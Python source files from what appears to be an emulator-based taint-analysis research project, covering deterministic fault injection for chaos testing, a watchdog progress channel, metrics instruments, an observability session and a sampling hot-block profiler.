at the same points.  Nothing here consults wall-clock time: triggers are
pure functions of the instruction stream.

Plans serialize to plain dicts (:meth:`FaultPlan.to_json_dict`), which
is how chaos jobs carry them across the triage pool's process boundary.
"""

from __future__ import annotations

import dataclasses
from dataclasses import dataclass, field
from typing import Optional, Sequence, Tuple

from repro.emulator.devices import Packet
from repro.emulator.machine import MachineConfig
from repro.emulator.plugins import Plugin
from repro.emulator.record_replay import PacketEvent, Scenario
from repro.faults.errors import (
    DeviceFault,
    EmulatorFault,
    GuestResourceExhausted,
    InjectedFault,
    TaintBudgetExceeded,
    WatchdogExpired,
)
from repro.guestos.syscalls import ERR
from repro.taint.policy import TaintPolicy

__all__ = [
    "FaultRule",
    "FaultPlan",
    "SyscallFaultInjector",
    "InjectedMachineFault",
    "InjectedPacketNote",
    "build_fault",
]

_TRIGGERS = ("packet", "syscall", "instret")
_ACTIONS = ("fault", "error", "corrupt", "truncate", "drop")


def build_fault(kind: str, detail: str) -> EmulatorFault:
    """Construct the taxonomy exception named *kind*, marked injected."""
    if kind == "DeviceFault":
        fault: EmulatorFault = DeviceFault("injected", detail)
    elif kind == "GuestResourceExhausted":
        fault = GuestResourceExhausted("injected", detail)
    elif kind == "WatchdogExpired":
        fault = WatchdogExpired("injected", 0, detail)
    elif kind == "TaintBudgetExceeded":
        fault = TaintBudgetExceeded(detail, 0, 0)
    else:
        fault = InjectedFault(detail or kind)
    fault.injected = True
    return fault


@dataclass(frozen=True)
class FaultRule:
    """One ``(trigger, fault)`` rule.

    :ivar trigger: ``packet`` / ``syscall`` / ``instret``.
    :ivar at: which firing point -- packet ordinal (1-based), syscall
        ordinal (1-based; scoped to :attr:`syscall` when set, global
        otherwise), or absolute instruction tick.
    :ivar syscall: restrict a ``syscall`` trigger to this syscall number.
    :ivar action: ``fault`` (raise :attr:`fault_kind`), ``error``
        (syscall returns ``ERR`` without running), ``corrupt`` (XOR the
        payload with :attr:`arg`), ``truncate`` (keep :attr:`arg`
        leading bytes), ``drop`` (suppress the packet entirely).
    :ivar arg: the corrupt mask / truncate length.
    """

    trigger: str
    at: int
    action: str = "fault"
    syscall: Optional[int] = None
    fault_kind: str = "InjectedFault"
    detail: str = ""
    arg: int = 0xFF

    def __post_init__(self) -> None:
        if self.trigger not in _TRIGGERS:
            raise ValueError(f"unknown trigger {self.trigger!r}")
        if self.action not in _ACTIONS:
            raise ValueError(f"unknown action {self.action!r}")

    def describe(self) -> str:
        """Stable one-line description (journal markers embed this)."""
        scope = f" sys={self.syscall}" if self.syscall is not None else ""
        tail = f" {self.detail}" if self.detail else ""
        return f"{self.trigger}@{self.at}{scope} {self.action}{tail}"

    def to_json_dict(self) -> dict:
        return {
            "trigger": self.trigger,
            "at": self.at,
            "action": self.action,
            "syscall": self.syscall,
            "fault_kind": self.fault_kind,
            "detail": self.detail,
            "arg": self.arg,
        }

    @classmethod
    def from_json_dict(cls, d: dict) -> "FaultRule":
        return cls(
            trigger=d["trigger"],
            at=d["at"],
            action=d.get("action", "fault"),
            syscall=d.get("syscall"),
            fault_kind=d.get("fault_kind", "InjectedFault"),
            detail=d.get("detail", ""),
            arg=d.get("arg", 0xFF),
        )


@dataclass(frozen=True)
class InjectedPacketNote:
    """Journal event recording that the following packet slot was
    tampered with (or that a packet was dropped from it)."""

    note: str

    def deliver(self, machine) -> None:
        machine.note_injected_fault("InjectedFault", self.note, journal=False)

    def __repr__(self) -> str:
        return f"InjectedPacketNote({self.note!r})"


@dataclass(frozen=True)
class InjectedMachineFault:
    """Journal event that arms a fault for the machine's next loop check."""

    kind: str
    detail: str

    def deliver(self, machine) -> None:
        machine._pending_fault = build_fault(self.kind, self.detail)

    def __repr__(self) -> str:
        return f"InjectedMachineFault({self.kind}, {self.detail!r})"


class SyscallFaultInjector(Plugin):
    """Counts syscalls and arms the machine's override at rule matches.

    Registered by :meth:`FaultPlan.apply` inside the scenario's setup, so
    a recording and its replay carry identical injectors -- the firing
    points are a deterministic function of the syscall stream.
    """

    name = "fault-injector"

    def __init__(self, rules: Sequence[FaultRule]) -> None:
        super().__init__()
        self._rules = [r for r in rules if r.trigger == "syscall"]
        self._total = 0
        self._per_number: dict = {}

    def on_syscall_enter(self, machine, thread, number, args) -> None:
        self._total += 1
        n = self._per_number[number] = self._per_number.get(number, 0) + 1
        for rule in self._rules:
            if rule.syscall is not None:
                if number != rule.syscall or n != rule.at:
                    continue
            elif self._total != rule.at:
                continue
            note = f"syscall {number} overridden ({rule.describe()})"
            if rule.action == "error":
                machine.inject_syscall_result(ERR, note)
            else:
                machine.inject_syscall_fault(
                    build_fault(rule.fault_kind, rule.detail or note), note
                )
            return


def _mutate_packet(packet: Packet, rule: FaultRule) -> Packet:
    if rule.action == "truncate":
        payload = packet.payload[: max(rule.arg, 0)]
    else:  # corrupt
        mask = rule.arg & 0xFF
        payload = bytes(b ^ mask for b in packet.payload)
    return Packet(
        src_ip=packet.src_ip,
        src_port=packet.src_port,
        dst_ip=packet.dst_ip,
        dst_port=packet.dst_port,
        payload=payload,
    )


@dataclass(frozen=True)
class FaultPlan:
    """A deterministic set of fault rules plus watchdog/taint budgets.

    Budgets ride along with the rules so one plan fully describes a
    chaos configuration: :meth:`apply` folds the watchdog budgets into
    the scenario's :class:`~repro.emulator.machine.MachineConfig`, and
    :meth:`taint_policy` yields the budgeted
    :class:`~repro.taint.policy.TaintPolicy` for the analysis plugin.
    """

    rules: Tuple[FaultRule, ...] = field(default_factory=tuple)
    instruction_budget: Optional[int] = None
    syscall_step_budget: Optional[int] = None
    max_tainted_bytes: Optional[int] = None
    max_prov_nodes: Optional[int] = None
    #: Taint-pipeline configuration: *taint_pipeline* selects the event
    #: pipeline mode (``inline``/``batched``/``worker``; folded into
    #: ``MachineConfig.taint_pipeline`` by :meth:`apply`) and
    #: *max_queue_depth* bounds the batched/worker FIFO in packed
    #: records (folded into ``TaintPolicy.max_queue_depth`` by
    #: :meth:`taint_policy`) -- a tiny depth forces soft-drop
    #: backpressure, the chaos matrix's degraded-precision regime.
    taint_pipeline: Optional[str] = None
    max_queue_depth: Optional[int] = None

    def apply(self, scenario: Scenario) -> Scenario:
        """A new scenario with this plan's rules and budgets woven in."""
        packet_rules = {r.at: r for r in self.rules if r.trigger == "packet"}
        events = []
        ordinal = 0
        for at, event in scenario.events:
            if isinstance(event, PacketEvent):
                ordinal += 1
                rule = packet_rules.get(ordinal)
                if rule is not None and rule.action in ("corrupt", "truncate", "drop"):
                    note = f"packet {ordinal} {rule.action} ({rule.describe()})"
                    events.append((at, InjectedPacketNote(note)))
                    if rule.action != "drop":
                        events.append((at, PacketEvent(_mutate_packet(event.packet, rule))))
                    continue
            events.append((at, event))
        for rule in self.rules:
            if rule.trigger == "instret":
                detail = rule.detail or f"injected at tick {rule.at}"
                events.append((rule.at, InjectedMachineFault(rule.fault_kind, detail)))

        config = scenario.config or MachineConfig()
        if self.instruction_budget is not None or self.syscall_step_budget is not None:
            config = dataclasses.replace(
                config,
                instruction_budget=self.instruction_budget,
                syscall_step_budget=self.syscall_step_budget,
            )
        if self.taint_pipeline is not None:
            config = dataclasses.replace(config, taint_pipeline=self.taint_pipeline)

        setup = scenario.setup
        syscall_rules = tuple(r for r in self.rules if r.trigger == "syscall")
        if syscall_rules:
            def setup_with_injector(machine, _setup=scenario.setup, _rules=syscall_rules):
                _setup(machine)
                machine.plugins.register(SyscallFaultInjector(_rules))

            setup = setup_with_injector

        return Scenario(
            name=f"{scenario.name}+faults",
            setup=setup,
            events=tuple(events),
            config=config,
            max_instructions=scenario.max_instructions,
        )

    def taint_policy(self, base: Optional[TaintPolicy] = None) -> Optional[TaintPolicy]:
        """*base* (or the default policy) with this plan's taint budgets,
        or None when the plan imposes none (caller keeps its default)."""
        if (
            self.max_tainted_bytes is None
            and self.max_prov_nodes is None
            and self.max_queue_depth is None
        ):
            return base
        policy = dataclasses.replace(
            base or TaintPolicy(),
            max_tainted_bytes=self.max_tainted_bytes,
            max_prov_nodes=self.max_prov_nodes,
        )
        if self.max_queue_depth is not None:
            policy = dataclasses.replace(policy, max_queue_depth=self.max_queue_depth)
        return policy

    def to_json_dict(self) -> dict:
        return {
            "rules": [rule.to_json_dict() for rule in self.rules],
            "instruction_budget": self.instruction_budget,
            "syscall_step_budget": self.syscall_step_budget,
            "max_tainted_bytes": self.max_tainted_bytes,
            "max_prov_nodes": self.max_prov_nodes,
            "taint_pipeline": self.taint_pipeline,
            "max_queue_depth": self.max_queue_depth,
        }

    @classmethod
    def from_json_dict(cls, d: dict) -> "FaultPlan":
        return cls(
            rules=tuple(FaultRule.from_json_dict(r) for r in d.get("rules", ())),
            instruction_budget=d.get("instruction_budget"),
            syscall_step_budget=d.get("syscall_step_budget"),
            max_tainted_bytes=d.get("max_tainted_bytes"),
            max_prov_nodes=d.get("max_prov_nodes"),
            taint_pipeline=d.get("taint_pipeline"),
            max_queue_depth=d.get("max_queue_depth"),
        )
