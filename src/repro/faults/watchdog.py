"""Watchdog progress publishing (the timeout-diagnostics channel).

When the triage pool kills a worker that overran its wall-clock budget,
the parent used to learn nothing about *where* the guest was stuck.
This module is the one-way channel that fixes it: each worker installs a
process-global :class:`SharedProgressSink` over a lock-free shared
array, the machine's run loop publishes its position into it once per
scheduler slice, and the parent reads the last-published state after the
kill to populate the timeout :class:`~repro.faults.errors.FaultRecord`.

The sink is diagnostics-only: values are advisory (torn reads across the
kill are acceptable), which is why a raw array with no lock is correct
here -- the hot path must not pay for synchronization it does not need.
With no sink installed (serial runs, benchmarks), the machine's cost is
one ``is None`` test per slice.
"""

from __future__ import annotations

from typing import Optional

__all__ = [
    "SharedProgressSink",
    "set_progress_sink",
    "progress_sink",
    "read_progress",
]

#: Array slots: [instret, pc, last syscall number (-1 = none), fresh flag].
PROGRESS_SLOTS = 4

_SINK: Optional["SharedProgressSink"] = None


def set_progress_sink(sink: Optional["SharedProgressSink"]) -> None:
    """Install the process-global sink (workers call this once at start;
    ``None`` uninstalls)."""
    global _SINK
    _SINK = sink


def progress_sink() -> Optional["SharedProgressSink"]:
    """The installed sink, or None (the common serial/bench case)."""
    return _SINK


class SharedProgressSink:
    """Publishes machine progress into a shared ``[tick, pc, syscall,
    fresh]`` array the parent process can read after a kill."""

    __slots__ = ("array",)

    def __init__(self, array) -> None:
        self.array = array

    def update(self, machine) -> None:
        arr = self.array
        arr[0] = machine.now
        arr[1] = machine.cpu.pc
        last = machine.last_syscall
        arr[2] = -1 if last is None else last
        arr[3] = 1

    def reset(self) -> None:
        arr = self.array
        arr[0] = arr[1] = arr[2] = -1
        arr[3] = 0


def read_progress(array) -> Optional[dict]:
    """Decode a progress array into FaultRecord-shaped fields, or None
    if the worker never published (died before its first slice)."""
    if not array[3]:
        return None
    syscall = array[2]
    return {
        "tick": int(array[0]),
        "pc": int(array[1]),
        "syscall": None if syscall < 0 else int(syscall),
    }
