"""``repro.obs``: the whole-system observability layer.

Metrics (counters / gauges / histograms with a zero-cost disabled path),
phase-span tracing, and a deterministic sampling hot-block profiler --
the measurement substrate the ROADMAP's performance work reports
against.  See ``docs/observability.md`` for the metric vocabulary and
``repro stats`` for the CLI surface.
"""

from repro.obs.metrics import (
    Counter,
    Gauge,
    Histogram,
    MetricsRegistry,
    NULL_COUNTER,
    NULL_HISTOGRAM,
    NULL_REGISTRY,
)
from repro.obs.profiler import BlockProfile, HotBlockProfiler
from repro.obs.render import render_snapshot
from repro.obs.session import ObsSession
from repro.obs.spans import NULL_TRACER, SpanRecord, Tracer

__all__ = [
    "BlockProfile",
    "Counter",
    "Gauge",
    "Histogram",
    "HotBlockProfiler",
    "MetricsRegistry",
    "NULL_COUNTER",
    "NULL_HISTOGRAM",
    "NULL_REGISTRY",
    "NULL_TRACER",
    "ObsSession",
    "SpanRecord",
    "Tracer",
    "render_snapshot",
]
