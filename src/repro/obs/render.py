"""Human-readable rendering of an observability snapshot.

``repro stats`` (and anything else holding a snapshot dict produced by
:meth:`~repro.obs.session.ObsSession.snapshot`) renders it through
:func:`render_snapshot`: counters, sampled gauges, phase spans, and the
hot-block top-N as aligned ASCII sections, in the same table idiom as
:mod:`repro.analysis.tables`.
"""

from __future__ import annotations

from typing import Optional

__all__ = ["render_snapshot"]


def _fmt_value(value) -> str:
    if isinstance(value, bool):
        return str(value)
    if isinstance(value, float):
        return f"{value:.4f}" if abs(value) < 1000 else f"{value:,.1f}"
    if isinstance(value, int):
        return f"{value:,}"
    return str(value)


def render_snapshot(snapshot: Optional[dict], title: str = "observability snapshot") -> str:
    """ASCII rendering of one metrics snapshot (None -> a stub line)."""
    if not snapshot:
        return "(no metrics captured -- run with --metrics)"
    lines = [f"=== {title} ==="]

    counters = snapshot.get("counters") or {}
    gauges = snapshot.get("gauges") or {}
    if counters or gauges:
        lines.append("-- metrics")
        width = max(len(name) for name in list(counters) + list(gauges))
        for name, value in sorted(counters.items()):
            lines.append(f"  {name:<{width}}  {_fmt_value(value):>14}")
        for name, value in sorted(gauges.items()):
            lines.append(f"  {name:<{width}}  {_fmt_value(value):>14}")

    histograms = snapshot.get("histograms") or {}
    for name, hist in sorted(histograms.items()):
        lines.append(f"-- histogram {name} (n={hist['total']}, sum={hist['sum']:g})")
        for bound, count in zip(hist["bounds"] + ["+inf"], hist["counts"]):
            if count:
                lines.append(f"  <= {bound!s:>10}  {count:>10,}")

    spans = snapshot.get("spans") or []
    if spans:
        lines.append("-- spans")
        for span in spans:
            indent = "  " * (span["depth"] + 1)
            ticks = ""
            if span.get("start_tick") is not None and span.get("end_tick") is not None:
                ticks = f"  ({span['end_tick'] - span['start_tick']:,} guest insns)"
            lines.append(
                f"{indent}{span['name']:<12} {span['duration_s'] * 1000:10.2f} ms{ticks}"
            )

    hot = snapshot.get("hot_blocks")
    if hot:
        lines.append(
            f"-- hot blocks (top {len(hot['top'])} of {hot['blocks_seen']}, "
            f"sample_every={hot['sample_every']}, "
            f"unattributed={hot['unattributed']:,})"
        )
        lines.append(
            f"  {'start_pc':<12} {'retired':>12} {'taint_slow':>12}  processes"
        )
        for block in hot["top"]:
            lines.append(
                f"  {block['start_pc']:#010x}   {block['retired']:>12,} "
                f"{block['taint_slow']:>12,}  {', '.join(block['processes'])}"
            )
    return "\n".join(lines)
