"""Counters, gauges, and histograms with a zero-cost disabled path.

The ROADMAP's "fast as the hardware allows" goal is only honest if
overhead is *measured*: the DIFT literature (and the paper's own Table V)
treats tracking cost as a first-class result, and the triage fleet needs
per-sample telemetry to explain verdicts.  At the same time the metrics
layer must never tax the very hot paths it observes, so the design splits
into two regimes:

* **enabled** -- :class:`MetricsRegistry` hands out real
  :class:`Counter` / :class:`Gauge` / :class:`Histogram` instruments and
  collects them into one :meth:`~MetricsRegistry.snapshot` dict;
* **disabled** -- the registry hands out the *same* module-level no-op
  singletons (:data:`NULL_COUNTER`, :data:`NULL_HISTOGRAM`) for every
  name.  ``NULL_COUNTER.inc()`` is an empty method on an object that is
  shared process-wide, so a disabled instrument costs one no-op call at
  its call site and zero allocations anywhere -- the "counter identity
  check" the test suite locks in (``instrument is NULL_COUNTER``).

Gauges go one step further: they are *pull-based* (a callback sampled at
snapshot time), so instrumenting a hot structure with a gauge costs the
hot path literally nothing -- the existing counters inside
:class:`~repro.taint.tracker.TrackerStats` and friends are simply read
when someone asks.  A disabled registry drops gauge registrations on the
floor.

Instrument names are dotted paths (``taint.fast_retirements``,
``machine.syscalls``); the full vocabulary is documented in
``docs/observability.md``.
"""

from __future__ import annotations

from bisect import bisect_left
from typing import Callable, Dict, List, Optional, Sequence

__all__ = [
    "Counter",
    "Gauge",
    "Histogram",
    "MetricsRegistry",
    "NULL_COUNTER",
    "NULL_HISTOGRAM",
    "NULL_REGISTRY",
]


class Counter:
    """A monotonically increasing integer (events since registry birth)."""

    __slots__ = ("name", "value")

    def __init__(self, name: str) -> None:
        self.name = name
        self.value = 0

    def inc(self, n: int = 1) -> None:
        self.value += n


class _NullCounter:
    """The shared do-nothing counter every disabled registry hands out."""

    __slots__ = ()
    name = "<null>"
    value = 0

    def inc(self, n: int = 1) -> None:
        pass


#: Process-wide no-op counter; ``registry.counter(...) is NULL_COUNTER``
#: is the disabled-path identity test.
NULL_COUNTER = _NullCounter()


class Gauge:
    """A named callback sampled at snapshot time (pull-based, zero hot cost)."""

    __slots__ = ("name", "fn")

    def __init__(self, name: str, fn: Callable[[], float]) -> None:
        self.name = name
        self.fn = fn

    def value(self) -> float:
        return self.fn()


#: Default histogram buckets: powers of four, a decent spread for both
#: byte counts and instruction counts.
DEFAULT_BUCKETS = tuple(4 ** i for i in range(1, 12))


class Histogram:
    """Fixed-bucket histogram (cumulative-free: one count per bucket).

    ``bounds[i]`` is the *inclusive* upper edge of bucket ``i``; one
    overflow bucket catches everything beyond the last bound.
    """

    __slots__ = ("name", "bounds", "counts", "total", "sum")

    def __init__(self, name: str, bounds: Sequence[float] = DEFAULT_BUCKETS) -> None:
        self.name = name
        self.bounds = tuple(sorted(bounds))
        self.counts = [0] * (len(self.bounds) + 1)
        self.total = 0
        self.sum = 0.0

    def observe(self, value: float) -> None:
        # bisect_left puts value == bound into that bound's bucket
        # (inclusive upper edges); anything beyond the last bound lands
        # in the overflow slot.
        self.counts[bisect_left(self.bounds, value)] += 1
        self.total += 1
        self.sum += value

    def to_dict(self) -> dict:
        return {
            "bounds": list(self.bounds),
            "counts": list(self.counts),
            "total": self.total,
            "sum": self.sum,
        }


class _NullHistogram:
    """The shared do-nothing histogram for disabled registries."""

    __slots__ = ()
    name = "<null>"

    def observe(self, value: float) -> None:
        pass


NULL_HISTOGRAM = _NullHistogram()


class MetricsRegistry:
    """Named instruments plus the snapshot that serializes them.

    One registry per analysis session (one sample, one ``repro stats``
    run); sharing across sessions would mix unrelated runs' numbers.
    ``enabled=False`` turns every factory into a return of the shared
    null singletons -- see the module docstring.
    """

    def __init__(self, enabled: bool = True) -> None:
        self.enabled = enabled
        self._counters: Dict[str, Counter] = {}
        self._gauges: Dict[str, Gauge] = {}
        self._histograms: Dict[str, Histogram] = {}

    # -- factories ---------------------------------------------------------

    def counter(self, name: str) -> Counter:
        """The counter registered under *name* (created on first use)."""
        if not self.enabled:
            return NULL_COUNTER  # type: ignore[return-value]
        ctr = self._counters.get(name)
        if ctr is None:
            ctr = self._counters[name] = Counter(name)
        return ctr

    def gauge(self, name: str, fn: Callable[[], float]) -> Optional[Gauge]:
        """Register callback *fn* to be sampled as *name* at snapshot time.

        Re-registering a name replaces its callback (a fresh tracker
        re-binding its gauges is the common case).  Disabled registries
        return None and remember nothing.
        """
        if not self.enabled:
            return None
        gauge = Gauge(name, fn)
        self._gauges[name] = gauge
        return gauge

    def histogram(self, name: str, bounds: Sequence[float] = DEFAULT_BUCKETS) -> Histogram:
        if not self.enabled:
            return NULL_HISTOGRAM  # type: ignore[return-value]
        hist = self._histograms.get(name)
        if hist is None:
            hist = self._histograms[name] = Histogram(name, bounds)
        return hist

    # -- collection --------------------------------------------------------

    def snapshot(self) -> dict:
        """Sample every instrument into one JSON-serializable dict."""
        return {
            "counters": {name: c.value for name, c in sorted(self._counters.items())},
            "gauges": {name: g.value() for name, g in sorted(self._gauges.items())},
            "histograms": {
                name: h.to_dict() for name, h in sorted(self._histograms.items())
            },
        }


#: Process-wide disabled registry: the default wired into components so
#: un-instrumented runs pay only no-op calls.
NULL_REGISTRY = MetricsRegistry(enabled=False)
