"""One observability session: registry + tracer + profiler, as a unit.

Every analysis run that wants telemetry needs the same three pieces
wired the same way -- a :class:`~repro.obs.metrics.MetricsRegistry` for
the component gauges/counters, a :class:`~repro.obs.spans.Tracer` for
the boot/attack/detection/report phases, and a
:class:`~repro.obs.profiler.HotBlockProfiler` ordered *after* the taint
tracker so slow-path work attributes correctly.  :class:`ObsSession`
bundles them so call sites read::

    session = ObsSession.create(metrics_enabled)
    faros = Faros(metrics=session.registry)
    with session.span("detection"):
        replay(recording, plugins=session.plugins_for(faros),
               metrics=session.registry)
    snap = session.snapshot()

A disabled session hands out the process-wide null registry/tracer and
no profiler, so the disabled path allocates three attribute slots and
nothing else.
"""

from __future__ import annotations

from typing import List, Optional

from repro.obs.metrics import MetricsRegistry, NULL_REGISTRY
from repro.obs.profiler import HotBlockProfiler
from repro.obs.spans import NULL_TRACER, Tracer

__all__ = ["ObsSession"]


class ObsSession:
    """The per-run observability bundle (see module docstring)."""

    def __init__(
        self,
        registry: MetricsRegistry,
        tracer: Tracer,
        profiler: Optional[HotBlockProfiler],
        top_blocks: int = 10,
    ) -> None:
        self.registry = registry
        self.tracer = tracer
        self.profiler = profiler
        #: Default hot-block ranking depth for :meth:`snapshot`.
        self.top_blocks = top_blocks

    @classmethod
    def create(
        cls, enabled: bool, sample_every: int = 1, top_blocks: int = 10
    ) -> "ObsSession":
        """An enabled session with fresh instruments, or the null wiring."""
        if not enabled:
            return cls(NULL_REGISTRY, NULL_TRACER, None)
        return cls(
            MetricsRegistry(enabled=True),
            Tracer(enabled=True),
            HotBlockProfiler(sample_every=sample_every),
            top_blocks=top_blocks,
        )

    @property
    def enabled(self) -> bool:
        return self.registry.enabled

    def span(self, name: str, clock=None):
        """Trace the enclosed block as phase *name* (no-op when disabled)."""
        return self.tracer.span(name, clock=clock)

    def plugins_for(self, faros) -> List:
        """The plugin list for an analysis run: FAROS first, then the
        profiler bound to its tracker (profiling order matters -- the
        tracker must book each instruction's propagation outcome before
        the profiler reads the slow-retirement delta)."""
        if self.profiler is None:
            return [faros]
        self.profiler.tracker = faros.tracker
        return [faros, self.profiler]

    def snapshot(self, top_blocks: Optional[int] = None) -> dict:
        """Everything this session observed, as one JSON-ready dict."""
        n = self.top_blocks if top_blocks is None else top_blocks
        snap = self.registry.snapshot()
        snap["spans"] = self.tracer.to_dicts()
        snap["hot_blocks"] = (
            self.profiler.snapshot(n) if self.profiler is not None else None
        )
        return snap
