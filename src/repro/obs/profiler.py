"""Sampling hot-block profiler: which guest code is the machine (and the
taint engine) actually spending its time in?

The paper reports per-attack instruction counts and taint overhead
(Table V, Figs. 9-10) as totals; to *act* on overhead you need the
breakdown -- which basic blocks retire the most instructions, and which
of them force the taint tracker onto its slow propagation path.
:class:`HotBlockProfiler` is an emulator plugin that attributes both.

A **basic block** here is a maximal straight-line run: it starts at the
target of a control transfer (or a thread's first observed instruction,
or syscall return) and ends at the next control-transfer / syscall /
halt.  Blocks are keyed by their start virtual address, so the same loop
body accumulates across iterations and across threads executing shared
code.

**Sampling** is deterministic: every ``sample_every``-th retired
instruction (counted over the instructions this profiler observes) is
attributed, with weight ``sample_every``, to the block executing at that
moment.  Because the substrate's instruction streams are deterministic
under record/replay, two replays of the same recording produce
*identical* rankings -- which the test suite locks in.  ``sample_every=1``
(the default) is exact attribution.

**Taint work** attribution requires registering the profiler *after*
the taint tracker (so each instruction's propagation outcome is already
booked when the profiler sees it): the profiler then charges the delta
of the tracker's ``slow_retirements`` counter to the current block.
:meth:`ObsSession.plugins_for <repro.obs.session.ObsSession.plugins_for>`
handles the ordering.

The profiler overrides ``on_insn_exec``, so attaching it forces the
machine onto the instrumented path even while the system holds no taint
-- profiling is not free, which is exactly why it lives behind
``--metrics`` rather than in the default plugin set.

**Passive mode** (``passive=True``) removes that cost: the profiler
declines per-instruction effects and instead reads retirement counts
straight off the machine's basic-block translation cache
(:mod:`repro.isa.translate`), whose :class:`TranslatedBlock` objects
already count executions and retirements per block.  Passive
attribution is exact (not sampled) but only covers code still resident
in the cache -- a block invalidated by a code write takes its counts
with it -- and knows nothing about taint work or process names.  Any
slice another plugin forces onto the instrumented path is still
observed the normal way; rankings merge both sources.
"""

from __future__ import annotations

from dataclasses import dataclass
from typing import Dict, List, Optional

from repro.emulator.plugins import Plugin
from repro.isa.instructions import COND_BRANCH_OPS, Op

#: Opcodes that end a basic block (any control transfer).
BLOCK_TERMINATORS = frozenset(COND_BRANCH_OPS) | {
    Op.JMP,
    Op.JMPR,
    Op.CALL,
    Op.CALLR,
    Op.RET,
    Op.SYSCALL,
    Op.HLT,
}


@dataclass
class BlockProfile:
    """One ranked block in a profiler snapshot."""

    start_pc: int
    retired: int
    taint_slow: int
    processes: List[str]

    def to_dict(self) -> dict:
        return {
            "start_pc": self.start_pc,
            "retired": self.retired,
            "taint_slow": self.taint_slow,
            "processes": list(self.processes),
        }


class HotBlockProfiler(Plugin):
    """Ranks basic blocks by retired instructions and taint-slow work."""

    name = "hotblocks"

    def __init__(self, sample_every: int = 1, tracker=None, passive: bool = False) -> None:
        super().__init__()
        if sample_every < 1:
            raise ValueError("sample_every must be >= 1")
        self.sample_every = sample_every
        #: Passive profiling: attribute retirements from the machine's
        #: translation cache instead of forcing instrumented stepping.
        self.passive = passive
        self._translator = None
        #: The taint tracker whose slow-path work is attributed per
        #: block; may be (re)bound any time before the run starts.
        self.tracker = tracker
        #: block start pc -> [retired weight, taint slow count]
        self._blocks: Dict[int, List[int]] = {}
        #: block start pc -> {process names seen executing it}
        self._block_procs: Dict[int, set] = {}
        self._current: Dict[int, int] = {}  # tid -> current block start pc
        self._countdown = sample_every
        self._last_slow = 0
        #: Retirements that happened on the uninstrumented bulk path
        #: (no pc available, so they cannot be attributed to a block).
        self.unattributed = 0
        self.observed = 0

    # ------------------------------------------------------------------
    # plugin callbacks
    # ------------------------------------------------------------------

    def wants_insn_effects(self) -> bool:
        if self.passive:
            return False
        return super().wants_insn_effects()

    def on_machine_start(self, machine) -> None:
        if self.tracker is not None:
            self._last_slow = self.tracker.stats.slow_retirements
        if self.passive:
            self._translator = getattr(machine, "translator", None)

    def on_insn_exec(self, machine, thread, fx) -> None:
        tid = thread.tid
        block = self._current.get(tid)
        if block is None:
            block = fx.pc
            self._current[tid] = block
            procs = self._block_procs.get(block)
            if procs is None:
                procs = self._block_procs[block] = set()
            procs.add(thread.process.name)

        cell = self._blocks.get(block)
        if cell is None:
            cell = self._blocks[block] = [0, 0]

        self.observed += 1
        self._countdown -= 1
        if self._countdown == 0:
            self._countdown = self.sample_every
            cell[0] += self.sample_every

        tracker = self.tracker
        if tracker is not None:
            slow = tracker.stats.slow_retirements
            if slow != self._last_slow:
                cell[1] += slow - self._last_slow
                self._last_slow = slow

        if fx.insn.op in BLOCK_TERMINATORS or fx.syscall or fx.halted:
            self._current.pop(tid, None)

    def on_insns_skipped(self, machine, thread, count: int) -> None:
        # Bulk fast-path retirements carry no pc; account them so
        # coverage (observed + unattributed == total) stays checkable.
        self.unattributed += count
        self._current.pop(thread.tid, None)

    def on_syscall_return(self, machine, thread, number, result) -> None:
        # The kernel may have migrated/rescheduled the thread; its next
        # instruction starts a fresh block either way (SYSCALL is a
        # terminator, so this is belt-and-braces for blocked syscalls
        # that complete much later).
        self._current.pop(thread.tid, None)

    # ------------------------------------------------------------------
    # results
    # ------------------------------------------------------------------

    def _merged_blocks(self) -> Dict[int, List[int]]:
        """Instrumented observations, plus translated-block counts when
        passive.  Identical to ``self._blocks`` in the default mode."""
        if not self.passive or self._translator is None:
            return self._blocks
        merged = {pc: list(cell) for pc, cell in self._blocks.items()}
        for block in self._translator.blocks():
            if not block.exec_count:
                continue
            cell = merged.get(block.start_pc)
            if cell is None:
                merged[block.start_pc] = [block.retired, 0]
            else:
                cell[0] += block.retired
        return merged

    def top(self, n: int = 10) -> List[BlockProfile]:
        """The *n* hottest blocks, by retired weight then taint work.

        Ties break on ascending start address, so rankings are total
        orders and deterministic across replays.
        """
        ranked = sorted(
            self._merged_blocks().items(),
            key=lambda item: (-item[1][0], -item[1][1], item[0]),
        )
        return [
            BlockProfile(
                start_pc=pc,
                retired=cell[0],
                taint_slow=cell[1],
                processes=sorted(self._block_procs.get(pc, ())),
            )
            for pc, cell in ranked[:n]
        ]

    def snapshot(self, n: int = 10) -> dict:
        blocks = self._merged_blocks()
        snap = {
            "sample_every": self.sample_every,
            "blocks_seen": len(blocks),
            "observed": self.observed,
            "unattributed": self.unattributed,
            "top": [b.to_dict() for b in self.top(n)],
        }
        if self.passive:
            translator = self._translator
            snap["passive"] = True
            snap["translated_retired"] = (
                sum(b.retired for b in translator.blocks()) if translator is not None else 0
            )
        return snap
