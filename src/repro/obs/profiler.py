"""Sampling hot-block profiler: which guest code is the machine (and the
taint engine) actually spending its time in?

The paper reports per-attack instruction counts and taint overhead
(Table V, Figs. 9-10) as totals; to *act* on overhead you need the
breakdown -- which basic blocks retire the most instructions, and which
of them force the taint tracker onto its slow propagation path.
:class:`HotBlockProfiler` is an emulator plugin that attributes both.

A **basic block** here is a maximal straight-line run: it starts at the
target of a control transfer (or a thread's first observed instruction,
or syscall return) and ends at the next control-transfer / syscall /
halt.  Blocks are keyed by their start virtual address, so the same loop
body accumulates across iterations and across threads executing shared
code.

**Sampling** is deterministic: every ``sample_every``-th retired
instruction (counted over the instructions this profiler observes) is
attributed, with weight ``sample_every``, to the block executing at that
moment.  Because the substrate's instruction streams are deterministic
under record/replay, two replays of the same recording produce
*identical* rankings -- which the test suite locks in.  ``sample_every=1``
(the default) is exact attribution.

**Taint work** attribution requires registering the profiler *after*
the taint tracker (so each instruction's propagation outcome is already
booked when the profiler sees it): the profiler then charges the delta
of the tracker's ``slow_retirements`` counter to the current block.
:meth:`ObsSession.plugins_for <repro.obs.session.ObsSession.plugins_for>`
handles the ordering.

The profiler overrides ``on_insn_exec``, so attaching it forces the
machine onto the instrumented path even while the system holds no taint
-- profiling is not free, which is exactly why it lives behind
``--metrics`` rather than in the default plugin set.
"""

from __future__ import annotations

from dataclasses import dataclass
from typing import Dict, List, Optional

from repro.emulator.plugins import Plugin
from repro.isa.instructions import COND_BRANCH_OPS, Op

#: Opcodes that end a basic block (any control transfer).
BLOCK_TERMINATORS = frozenset(COND_BRANCH_OPS) | {
    Op.JMP,
    Op.JMPR,
    Op.CALL,
